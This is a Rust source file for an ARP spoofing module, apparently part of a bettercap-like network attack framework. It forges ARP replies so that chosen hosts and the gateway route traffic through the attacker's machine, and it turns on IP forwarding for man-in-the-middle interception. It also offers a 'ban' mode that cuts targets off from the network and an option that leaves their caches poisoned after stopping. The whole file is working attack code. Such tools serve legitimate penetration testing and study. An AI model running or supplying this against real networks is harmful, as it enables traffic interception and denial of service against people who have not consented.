//! ARP spoofer
//!
//! Keeps telling the selected hosts that the gateway (and, in internal mode,
//! every other neighbour of the subnet) lives at our MAC address:
//!
//! ```text
//!   target  <-- ARP reply: gateway_ip is-at own_mac --  us
//!   gateway <-- ARP reply: target_ip  is-at own_mac --  us   (full duplex)
//! ```
//!
//! On stop the same replies are sent once more carrying the real MACs, so
//! victims' caches point at the right hosts again.

use async_trait::async_trait;
use netspoof_core::{
    Error, MacAddr, ParamDescriptor, ParameterType, Result, Session,
};
use netspoof_module::{Handler, Lifecycle, Module, WorkerContext};
use netspoof_packet::arp_reply_frame;
use parking_lot::RwLock;
use std::net::IpAddr;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::time::Duration;
use tracing::{debug, error, info, warn};

use crate::targets::{expand_cidr, TargetExpr, TargetSet};

pub const NAME: &str = "arp.spoof";

pub const PARAM_TARGETS: &str = "arp.spoof.targets";
pub const PARAM_WHITELIST: &str = "arp.spoof.whitelist";
pub const PARAM_INTERNAL: &str = "arp.spoof.internal";
pub const PARAM_FULLDUPLEX: &str = "arp.spoof.fullduplex";
pub const PARAM_SKIP_RESTORE: &str = "arp.spoof.skip_restore";

const DEFAULT_PERIOD: Duration = Duration::from_secs(1);

/// Whether a beacon pass lies or tells the truth
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SpoofMode {
    Spoofing,
    Restoring,
}

/// Settings fixed by `configure` for the duration of a run
#[derive(Debug, Clone, Default)]
struct ArpConfig {
    targets: TargetSet,
    whitelist: TargetSet,
    full_duplex: bool,
    internal: bool,
}

/// One run's view of the module: session plus frozen configuration
#[derive(Clone)]
struct Beacon {
    session: Arc<Session>,
    config: Arc<ArpConfig>,
}

impl Beacon {
    /// Other hosts of the interface subnet, used in internal mode
    fn neighbours(&self) -> Vec<IpAddr> {
        if !self.config.internal {
            return Vec::new();
        }
        let Some(cidr) = self.session.interface.cidr() else {
            warn!("Interface has no IPv4 network, internal mode has no neighbours");
            return Vec::new();
        };
        match expand_cidr(&cidr) {
            Ok(list) => list
                .into_iter()
                .filter_map(|t| match t {
                    TargetExpr::Address(ip) if !self.session.skip(ip) => Some(ip),
                    _ => None,
                })
                .collect(),
            Err(e) => {
                warn!(cidr = %cidr, error = %e, "Cannot expand interface subnet");
                Vec::new()
            }
        }
    }

    /// Tell every resolved target that `saddr` is at `smac`.
    ///
    /// With `ctx` set the pass stops as soon as the module is no longer
    /// running; the restore pass runs without one.
    async fn spoof_targets(
        &self,
        saddr: IpAddr,
        smac: MacAddr,
        mode: SpoofMode,
        ctx: Option<&WorkerContext>,
    ) {
        let IpAddr::V4(sender_ip) = saddr else {
            return;
        };
        let gateway = self.session.gateway;
        let is_gateway = saddr == gateway.ip;

        let targets = self.config.targets.resolve(&self.session, false).await;
        if targets.is_empty() {
            debug!(sender = %saddr, "Could not find spoof targets");
            return;
        }

        for target in targets {
            if ctx.is_some_and(|c| !c.is_running()) {
                return;
            }
            if self.config.whitelist.matches(target.ip, target.mac) {
                debug!(target = %target, "Whitelisted, skipping");
                continue;
            }
            if target.ip == saddr {
                continue;
            }
            let IpAddr::V4(target_ip) = target.ip else {
                continue;
            };

            debug!(target = %target, sender = %saddr, sender_mac = %smac, "Sending ARP reply");
            self.send(&arp_reply_frame(sender_ip, smac, target_ip, target.mac));

            if self.config.full_duplex && is_gateway {
                let IpAddr::V4(gateway_ip) = gateway.ip else {
                    continue;
                };
                // Spoofing: we are the target. Restoring: the target is at its real MAC.
                let claimed = match mode {
                    SpoofMode::Spoofing => self.session.own_mac(),
                    SpoofMode::Restoring => target.mac,
                };
                debug!(target = %target.ip, claimed = %claimed, "Telling the gateway");
                self.send(&arp_reply_frame(target_ip, claimed, gateway_ip, gateway.mac));
            }
        }
    }

    fn send(&self, frame: &[u8]) {
        if let Err(e) = self.session.sender.send(frame) {
            error!(error = %e, "Error while sending ARP packet");
        }
    }

    async fn run(self, ctx: WorkerContext, period: Duration) -> Result<()> {
        let neighbours = self.neighbours();
        let own_mac = self.session.own_mac();
        let gateway_ip = self.session.gateway.ip;

        if self.config.internal {
            warn!(
                neighbours = neighbours.len(),
                targets = self.config.targets.len(),
                "ARP spoofer started targeting network neighbours"
            );
        } else {
            info!(targets = self.config.targets.len(), "ARP spoofer started");
        }
        if self.config.full_duplex {
            warn!("Full duplex spoofing enabled, routers with ARP spoofing protection will make the attack fail");
        }

        while ctx.is_running() {
            self.spoof_targets(gateway_ip, own_mac, SpoofMode::Spoofing, Some(&ctx))
                .await;
            for &address in &neighbours {
                if !ctx.is_running() {
                    break;
                }
                self.spoof_targets(address, own_mac, SpoofMode::Spoofing, Some(&ctx))
                    .await;
            }

            if !ctx.tick(period).await {
                break;
            }
        }
        Ok(())
    }

    /// Announce the real gateway MAC (and real neighbour MACs in internal
    /// mode) to every target
    async fn unspoof(&self) {
        let gateway = self.session.gateway;
        info!(targets = self.config.targets.len(), "Restoring ARP cache of targets");
        self.spoof_targets(gateway.ip, gateway.mac, SpoofMode::Restoring, None)
            .await;

        for address in self.neighbours() {
            match self.session.find_mac(address, false).await {
                Ok(real_mac) => {
                    self.spoof_targets(address, real_mac, SpoofMode::Restoring, None)
                        .await
                }
                Err(e) => debug!(neighbour = %address, error = %e, "Cannot restore, MAC unknown"),
            }
        }
    }
}

/// The `arp.spoof` module
pub struct ArpSpoofer {
    session: Arc<Session>,
    lifecycle: Lifecycle,
    config: RwLock<Arc<ArpConfig>>,
    ban: AtomicBool,
    period: Duration,
}

impl ArpSpoofer {
    /// Create the module and declare its parameters in the session store
    pub fn new(session: Arc<Session>) -> Self {
        let spoofer = Self {
            lifecycle: Lifecycle::new(NAME),
            config: RwLock::new(Arc::new(ArpConfig::default())),
            ban: AtomicBool::new(false),
            period: DEFAULT_PERIOD,
            session,
        };
        for param in spoofer.parameters() {
            spoofer.session.params.register(param);
        }
        spoofer
    }

    /// Beacon interval
    pub fn with_period(mut self, period: Duration) -> Self {
        self.period = period;
        self
    }

    pub fn is_ban(&self) -> bool {
        self.ban.load(Ordering::SeqCst)
    }

    fn beacon(&self) -> Beacon {
        Beacon {
            session: Arc::clone(&self.session),
            config: Arc::clone(&self.config.read()),
        }
    }

    /// Start in ban mode: spoof without forwarding
    pub async fn start_ban(&self) -> Result<()> {
        self.lifecycle.ensure_stopped()?;
        self.ban.store(true, Ordering::SeqCst);
        let result = self.start().await;
        if result.is_err() {
            self.ban.store(false, Ordering::SeqCst);
        }
        result
    }
}

#[async_trait]
impl Module for ArpSpoofer {
    fn name(&self) -> &str {
        NAME
    }

    fn description(&self) -> &str {
        "Keep spoofing selected hosts on the network."
    }

    fn parameters(&self) -> Vec<ParamDescriptor> {
        vec![
            ParamDescriptor::new(PARAM_TARGETS, ParameterType::List)
                .with_default(self.session.interface.cidr().unwrap_or_default())
                .with_description("Comma separated list of IP addresses, MAC addresses or aliases to spoof, also supports nmap style IP ranges."),
            ParamDescriptor::new(PARAM_WHITELIST, ParameterType::List)
                .with_description("Comma separated list of IP addresses, MAC addresses or aliases to skip while spoofing."),
            ParamDescriptor::new(PARAM_INTERNAL, ParameterType::Bool)
                .with_default("false")
                .with_description("If true, local connections among computers of the network will be spoofed, otherwise only connections going to and coming from the external network."),
            ParamDescriptor::new(PARAM_FULLDUPLEX, ParameterType::Bool)
                .with_default("false")
                .with_description("If true, both the targets and the gateway will be attacked, otherwise only the target."),
            ParamDescriptor::new(PARAM_SKIP_RESTORE, ParameterType::Bool)
                .with_default("false")
                .with_description("If true, targets ARP cache won't be restored when spoofing is stopped."),
        ]
    }

    fn running(&self) -> bool {
        self.lifecycle.is_running()
    }

    async fn configure(&self) -> Result<()> {
        self.lifecycle.ensure_stopped()?;

        let params = &self.session.params;
        let full_duplex = params.bool(PARAM_FULLDUPLEX)?;
        let internal = params.bool(PARAM_INTERNAL)?;
        let targets = TargetSet::parse(&params.string(PARAM_TARGETS)?, &self.session)?;
        let whitelist = TargetSet::parse(&params.string(PARAM_WHITELIST)?, &self.session)?;

        debug!(
            addresses = ?targets.addresses(),
            macs = ?targets.macs(),
            whitelisted_addresses = ?whitelist.addresses(),
            whitelisted_macs = ?whitelist.macs(),
            "Configured"
        );

        let forwarding = &self.session.forwarding;
        if self.is_ban() {
            warn!("Running in ban mode, forwarding not enabled");
            forwarding.enable_forwarding(false)?;
        } else if !forwarding.is_forwarding_enabled() {
            info!("Enabling forwarding");
            forwarding.enable_forwarding(true)?;
        }

        *self.config.write() = Arc::new(ArpConfig {
            targets,
            whitelist,
            full_duplex,
            internal,
        });
        Ok(())
    }

    async fn start(&self) -> Result<()> {
        let period = self.period;
        self.lifecycle
            .start(self.configure(), |ctx| {
                let beacon = self.beacon();
                if beacon.config.targets.is_empty() {
                    warn!("List of targets is empty, nothing to spoof");
                }
                beacon.run(ctx, period)
            })
            .await
            .map(|_| ())
    }

    async fn stop(&self) -> Result<()> {
        let beacon = self.beacon();
        self.lifecycle
            .stop(async {
                info!("Waiting for ARP spoofer to stop");
                let skip_restore = self
                    .session
                    .params
                    .bool(PARAM_SKIP_RESTORE)
                    .unwrap_or_else(|e| {
                        error!(error = %e, "Cannot read restore setting, restoring anyway");
                        false
                    });
                if skip_restore {
                    warn!("ARP cache restoration is disabled");
                } else {
                    beacon.unspoof().await;
                }
                self.ban.store(false, Ordering::SeqCst);
            })
            .await
    }

    fn handlers(&self) -> Vec<Handler> {
        vec![
            Handler::new("arp.spoof on", "Start ARP spoofer."),
            Handler::new(
                "arp.ban on",
                "Start ARP spoofer in ban mode, meaning the target(s) connectivity will not work.",
            ),
            Handler::new("arp.spoof off", "Stop ARP spoofer."),
            Handler::new("arp.ban off", "Stop ARP spoofer."),
        ]
    }

    async fn handle(&self, command: &str) -> Result<()> {
        match command {
            "arp.spoof on" => self.start().await,
            "arp.ban on" => self.start_ban().await,
            "arp.spoof off" | "arp.ban off" => self.stop().await,
            other => Err(Error::UnknownCommand(other.to_string())),
        }
    }
}

#[cfg(test)]
mod tests;
